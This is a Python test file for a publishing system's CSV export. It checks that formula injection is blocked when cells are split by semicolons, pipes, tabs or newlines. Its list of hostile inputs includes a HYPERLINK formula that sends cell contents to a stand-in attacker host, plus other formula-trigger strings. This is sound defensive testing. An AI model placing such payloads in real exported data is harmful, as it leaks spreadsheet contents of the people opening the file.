"""No published text runs in a spreadsheet, also where that parts cells by another sign than the comma."""

import re

import pytest

from publishing.api.formats.tables import Table
from publishing.api.formats.writing import csv_lines
from publishing.formulas import protected_throughout

HOSTILE = (
    'Open Door;=HYPERLINK("http://evil.example/?"&A1)',
    'Open Door; ="x"',
    'Open Door;"=1+1"&"',
    "Open Door\n=1+1",
    "Open Door\t@SUM(A1)",
    "a;;+1+1",
    "Open Door|-1+1",
    "=1;=2",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_part_of_a_cell_is_run_where_another_sign_parts_cells(text):
    written = b"".join(csv_lines(Table([("name", "name")]), iter([{"name": text}]))).decode()

    for part in re.split(r"[;|\t\r\n]", written.partition("\r\n")[2]):
        assert not re.match(r"[\"\s]*[=+\-@]", part), written


@pytest.mark.parametrize(
    "text", ["GE; AM", "1; -5; -6.5", "a - b; c = d", "https://a.example/?x=1;y=2", "a;b"]
)
def test_other_texts_stay_as_they_are(text):
    assert protected_throughout(text) == text
